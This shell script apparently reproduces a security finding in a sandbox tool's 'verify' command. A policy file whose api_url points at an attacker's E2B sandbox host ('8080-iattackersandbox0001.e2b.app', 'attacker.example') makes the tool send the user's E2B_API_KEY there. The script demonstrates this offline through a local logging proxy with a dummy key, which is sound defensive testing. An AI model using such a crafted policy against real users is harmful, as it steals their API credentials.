#!/bin/sh
# atk38b F3: MS305 / verify's consent (atk37b F3's fix) takes any host under e2b.app or e2b.dev for "E2B's API".
# Every E2B sandbox's exposed ports are public hosts there (<port>-<sandbox id>.e2b.app, the SDK's getHost),
# so anyone with a free E2B account runs a listener at such a host. A policy someone hands the user with
# api_url = "https://8080-<their sandbox>.e2b.app" (api_key_env left at E2B_API_KEY) gets no MS305, and
# `mcpsandbox verify --policy it.toml` sends $E2B_API_KEY there without MCPSANDBOX_E2B_LIVE. Shown offline: an
# HTTPS_PROXY (which verify's client takes, as serve's) on 127.0.0.1 logs the CONNECT verify makes (the header
# itself is inside TLS; the control shows that a non-E2B host is "not asked" and never contacted).
set -e
. /work/notes/atk38b/setup.sh
D=/tmp/atk38b/f3; rm -rf $D; mkdir -p $D
cat > $D/proxy.py <<'PY'
import socket, sys, threading
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', int(sys.argv[1]))); s.listen(16)
while True:
    c,_=s.accept(); d=c.recv(4096).split(b'\r\n')[0]
    open(sys.argv[2],'ab').write(d+b'\n'); c.close()
PY
python3 $D/proxy.py 18938 $D/connects.txt & PX=$!
for i in $(seq 50); do python3 -c "import socket; socket.create_connection((\"127.0.0.1\",18938)).close()" 2>/dev/null && break; sleep 0.2; done; : > $D/connects.txt
for host in https://8080-iattackersandbox0001.e2b.app https://attacker.example; do
  cat > $D/p.toml <<P
version = 1
scheme  = "e2b"
name    = "sandbox"
[e2b]
api_url = "$host"
P
  : > $D/connects.txt
  echo "== api_url = $host: verify's MS305 and e2b api rows (no MCPSANDBOX_E2B_LIVE):"
  E2B_API_KEY=e2b_0123456789abcdef0123456789abcdef01234567 HTTPS_PROXY=http://127.0.0.1:18938 NO_PROXY= \
    timeout 60 $M verify --policy $D/p.toml 2>&1 | grep -i "MS305\|e2b api" | cut -c1-260 || true
  echo "== CONNECTs the proxy saw: $(sort -u $D/connects.txt | tr '\n' ' ')"
done
kill $PX
